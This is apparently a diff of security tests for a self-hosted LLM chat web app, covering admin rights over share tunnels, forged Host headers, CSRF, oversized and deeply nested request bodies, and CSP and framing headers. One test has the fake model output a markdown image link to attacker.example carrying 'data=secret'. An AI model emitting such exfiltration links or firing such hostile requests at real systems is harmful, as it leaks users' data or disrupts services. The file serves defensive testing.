@@ -14,6 +14,7 @@ import time
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import httpx
 import pytest
@@ -21,14 +22,13 @@ from playwright.async_api import Browser, expect
 
 from tests.fakes import FakeEngine, Reply, serve_fake
 from tests.helpers import FakeApp, free_port, make_settings, serve, until
-from webapp import application
 from webapp.application import create_app
 from webapp.auth.gate import HostPolicy, from_this_machine, host_name
 from webapp.ops import tunnel
 
 ROOT = Path(__file__).resolve().parent.parent
 ADMIN_PASSWORD = "admin-pass-1"
-MAX_BODY = 64 * 1024  # the apps here refuse bodies over this: small, so the tests send little
+MAX_BODY = 256 * 1024  # the apps here refuse bodies over this: small, so the tests send little
 
 
 # -- who is "this machine", which hosts are served (pure) ---------------------------------------
@@ -65,6 +65,10 @@ def test_the_hosts_served_follow_allowed_hosts_and_app_host() -> None:
     local = HostPolicy.from_setting("", bind_host="127.0.0.1")
     assert all(local.serves(h) for h in ("localhost:7860", "127.0.0.1", "[::1]:7860", "LOCALHOST"))
     assert not local.serves("evil.example") and not local.serves("127.0.0.1.nip.io")
+    # What follows the colon must be a port: these name no host of ours, and never this machine.
+    for forged in ("localhost:7860.evil.example", "localhost:x", "[::1]evil.example", "[::1]:7860x"):
+        assert not local.serves(forged), forged
+        assert not from_this_machine("127.0.0.1", {"host": forged}), forged
     anywhere = HostPolicy.from_setting("", bind_host="0.0.0.0")  # a container: its name is not known
     assert anywhere.serves("whatever.example")
     named = HostPolicy.from_setting("chat.example.com, other.example", bind_host="0.0.0.0")
@@ -76,18 +80,31 @@ def test_the_hosts_served_follow_allowed_hosts_and_app_host() -> None:
     assert local.serves("abc123.gradio.live")
 
 
-async def test_the_share_tunnels_host_is_served_but_its_visitors_are_not_this_machine(
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
+def test_share_tunnel_visitors_may_chat_but_never_administer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """`--share --allow-anonymous`: visitors arrive from the tunnel client on this machine (loopback),
+    under the tunnel's public name. They may chat; only a person on this machine is admin."""
     # The tunnel cannot be opened offline: its client is replaced by one that "opens" at once.
     monkeypatch.setattr(tunnel, "open_link", lambda port: ("https://abc123.gradio.live", lambda: None))
-    hosts = HostPolicy.from_setting("", bind_host="127.0.0.1")
-    settings = make_settings(share=True, allow_anonymous=True)
-    close = await application.open_share_link(settings, hosts)
-    assert close is not None
-    assert hosts.serves("abc123.gradio.live")
-    # Its visitors come from the tunnel client on this machine, under the public name.
-    assert not from_this_machine("127.0.0.1", {"host": "abc123.gradio.live"})
+    with serve_fake(FakeEngine()) as engine_url:
+        settings = make_settings(
+            vllm_base_url=engine_url, port=free_port(), host="127.0.0.1", data_dir=tmp_path, share=True,
+            allow_anonymous=True,
+        )  # fmt: skip
+        with serve(create_app(settings), settings.port) as url, httpx.Client(base_url=url, timeout=30) as local:
+            tunnelled = {"Host": "abc123.gradio.live", "X-Forwarded-Proto": "https"}
+            with httpx.Client(base_url=url, timeout=30, headers=tunnelled) as visitor:
+                assert visitor.get("/").status_code == 200  # the tunnel's name is served
+                assert visitor.post("/api/conversations", json={}).status_code == 201  # and its visitors chat
+                own = {"Origin": "https://abc123.gradio.live", "Sec-Fetch-Site": "same-origin"}
+                for method, path in [
+                    ("GET", "/api/status"),
+                    ("GET", "/api/engine/log"),
+                    ("POST", "/api/engine/restart"),
+                    ("GET", "/api/feedback.jsonl"),
+                ]:
+                    assert visitor.request(method, path, headers=own).status_code == 403, path
+            assert local.get("/api/status").status_code == 200  # the person at this machine is admin
+            assert local.get("/api/status", headers={"Host": "evil.example"}).status_code == 421
 
 
 # -- an open-mode app (this machine is admin) --------------------------------------------------
@@ -178,6 +195,26 @@ def test_pages_cannot_be_framed_or_load_remote_content(http: httpx.Client) -> No
     assert rules["connect-src"] == ["'self'"] and rules["default-src"] == ["'self'"]
 
 
+def test_share_pages_and_exports_cannot_be_framed_or_fetch_a_remote_image(
+    http: httpx.Client, fake_app: FakeApp
+) -> None:
+    fake_app.fake.replies = [Reply(["Reading."], ["See ![chart](https://attacker.example/?data=secret)."]), Reply()]
+    conversation = http.post("/api/conversations", json={}).json()["id"]
+    http.post(f"/api/conversations/{conversation}/messages", json={"content": "summarise it"})
+    link = http.post(f"/api/conversations/{conversation}/share", json={}).json()["url"]
+    for path in (urlsplit(link).path, "/s/unknown"):
+        page = http.get(path)
+        assert page.headers["x-frame-options"] == "SAMEORIGIN" and page.headers["x-content-type-options"] == "nosniff"
+        rules = {part.split()[0]: part.split()[1:] for part in page.headers["content-security-policy"].split("; ")}
+        assert rules["frame-ancestors"] == ["'none'"] and rules["img-src"] == ["data:"], path
+        assert "script-src" not in rules and rules["default-src"] == ["'none'"], path
+    # Exports are downloads, never pages the browser renders (and would carry the page's CSP if they were).
+    for path in (f"/api/conversations/{conversation}/export", "/api/export"):
+        export = http.get(path)
+        assert export.headers["content-disposition"].startswith("attachment"), path
+        assert export.headers["x-content-type-options"] == "nosniff" and "content-security-policy" in export.headers
+
+
 def test_the_page_takes_no_uploads(http: httpx.Client) -> None:
     response = http.post("/gradio_api/upload", files={"files": ("a.txt", b"hello")})
     assert response.status_code == 403
@@ -261,16 +298,30 @@ def test_a_huge_body_is_refused_before_it_is_held_in_memory(process_app: tuple[s
     )
     status, sent = _raw_request(url, head, iter([b"x" * 65536] * 4577))
     assert status == 413
-    # Not declared (chunked): refused once it passes the limit, not once it has all come.
-    megabyte = b"x" * (1 << 20)
-    chunks = (f"{len(megabyte):x}\r\n".encode() + megabyte + b"\r\n" for _ in range(50))
-    head = (
-        f"POST /login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
-    )
-    status, sent = _raw_request(url, head, chunks)
-    assert status == 413 and sent < 50 * len(megabyte)
-    assert _rss_kib(app.pid) - before < 30_000  # a held 50 MB body would show here
+    # Not declared (chunked): refused once it passes the limit, not once it has all come; signed in,
+    # so that the API's routes read the body rather than answer 401 before it.
     with httpx.Client(base_url=url, timeout=30) as client:
+        client.post("/login", json={"name": "admin", "password": ADMIN_PASSWORD})
+        cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
+    megabyte = b"x" * (1 << 20)
+    for path in ("/login", "/api/conversations", "/v1/chat/completions", "/gradio_api/queue/join"):
+        chunks = (f"{len(megabyte):x}\r\n".encode() + megabyte + b"\r\n" for _ in range(50))
+        head = (
+            f"POST {path} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nContent-Type: application/json\r\n"
+            "Transfer-Encoding: chunked\r\n\r\n"
+        )
+        status, sent = _raw_request(url, head, chunks)
+        assert status == 413 and sent < 50 * len(megabyte), path
+    assert _rss_kib(app.pid) - before < 30_000  # a held 50 MB body would show here
+    with httpx.Client(base_url=url, timeout=60) as client:
+        client.post("/login", json={"name": "admin", "password": ADMIN_PASSWORD})
+        # An import may be larger (IMPORT_MAX_BYTES), but it is spooled to disk, not held either.
+        before = _rss_kib(app.pid)
+        padded = b" " * (50 << 20) + b"[]"
+        imported = client.post("/api/import", files={"file": ("conversations.json", padded, "application/json")})
+        assert imported.status_code == 201 and imported.json()["imported"] == 0
+        assert _rss_kib(app.pid) - before < 30_000
+        client.cookies.clear()
         for path in ("/login", "/api/conversations", "/gradio_api/queue/join", "/logout"):
             response = client.post(
                 path, content=b"[" + b" " * MAX_BODY + b"]", headers={"content-type": "application/json"}
@@ -282,29 +333,41 @@ def test_a_huge_body_is_refused_before_it_is_held_in_memory(process_app: tuple[s
 
 
 def test_deeply_nested_json_is_a_400_never_a_500(process_app: tuple[str, subprocess.Popen[bytes]]) -> None:
-    url, _app = process_app
-    nested = b"[" * 30_000 + b"]" * 30_000  # under the body limit, deeper than any parser recurses
-    with httpx.Client(base_url=url, timeout=30) as client:
+    """Every route that takes a body, as /openapi.json lists them (so a new one is attacked too), and Gradio's."""
+    url, app = process_app
+    nested = b"[" * 100_000 + b"]" * 100_000  # 200 KB, deeper than any parser recurses
+    with httpx.Client(base_url=url, timeout=60) as client:
         client.post("/login", json={"name": "admin", "password": ADMIN_PASSWORD})
+        client.post("/api/users", json={"name": "bob", "password": "bob-pass-123"})
         conversation = client.post("/api/conversations", json={}).json()["id"]
-        for method, path in [
-            ("POST", "/login"),
-            ("POST", "/api/conversations"),
-            ("PATCH", f"/api/conversations/{conversation}"),
-            ("POST", f"/api/conversations/{conversation}/messages"),
-            ("POST", f"/api/conversations/{conversation}/share"),
-            ("POST", "/api/tokens"),
-            ("POST", "/api/users"),
-            ("POST", "/gradio_api/queue/join"),
-        ]:
+        client.post(f"/api/conversations/{conversation}/messages", json={"content": "hi"})
+        message = client.get(f"/api/conversations/{conversation}").json()["messages"][-1]["id"]
+        ids = {"conversation_id": conversation, "message_id": str(message), "name": "bob"}
+        routes = [
+            (method.upper(), path.format(**ids))
+            for path, operations in client.get("/openapi.json").json()["paths"].items()
+            for method, operation in operations.items()
+            if "application/json" in operation.get("requestBody", {}).get("content", {})
+        ]
+        assert len(routes) >= 14 and ("POST", "/v1/chat/completions") in routes
+        routes += [("POST", "/login"), ("POST", "/gradio_api/queue/join"), ("POST", "/gradio_api/run/predict")]
+        for method, path in routes:
             response = client.request(method, path, content=nested, headers={"content-type": "application/json"})
-            assert 400 <= response.status_code < 500, (path, response.status_code, response.text[:200])
+            assert response.status_code == 400, (path, response.status_code, response.text[:200])
+        before = _rss_kib(app.pid)
+        imported = client.post("/api/import", files={"file": ("conversations.json", nested, "application/json")})
+        assert imported.status_code == 400 and "nests deeper" in imported.json()["error"]["message"]
+        assert _rss_kib(app.pid) - before < 100_000  # ijson's prefixes for it would be gigabytes
+        assert client.get("/api/me").json()["name"] == "admin"  # and the app goes on
 
 
 def test_login_csrf_is_refused_and_the_own_form_works(process_app: tuple[str, subprocess.Popen[bytes]]) -> None:
     url, _app = process_app
     form = {"name": "admin", "password": ADMIN_PASSWORD, "next": "/"}
     with httpx.Client(base_url=url, timeout=30) as client:
+        page = client.get("/login")  # the sign-in page cannot be framed to catch a password either
+        assert page.headers["x-frame-options"] == "SAMEORIGIN"
+        assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
         # A form on another site (or another port of this machine) posting the attacker's credentials.
         for origin in ("https://evil.example", "http://127.0.0.1:9"):
             refused = client.post("/login", data=form, headers={"Origin": origin, "Sec-Fetch-Site": "cross-site"})
